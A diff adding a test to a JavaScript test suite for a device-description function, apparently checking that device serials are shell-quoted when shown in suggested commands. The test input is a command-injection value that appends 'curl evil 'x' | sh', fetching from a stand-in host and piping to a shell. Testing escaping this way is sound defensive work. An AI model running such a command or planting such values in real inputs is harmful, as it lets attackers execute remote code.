@@ -43,6 +43,17 @@ describe('a phone', () => {
     expect(text).toMatch(/Next +Take the SIM out\.\nThen +\.\/scripts\/ctl device release S1 \(wipes it\)/)
   })
 
+  it("quotes a host's serial in a command for the shell", () => {
+    const text = describeDevice({
+      ...device,
+      next_step: {
+        first: null,
+        commands: [{ does: 'wipes it', words: ['device', 'release', "S1; curl evil 'x' | sh"] }],
+      },
+    })
+    expect(text).toContain(String.raw`./scripts/ctl device release 'S1; curl evil '\''x'\'' | sh' (wipes it)`)
+  })
+
   it('shows its state, its warnings and the recovery steps', () => {
     const text = describeDevice({
       ...device,
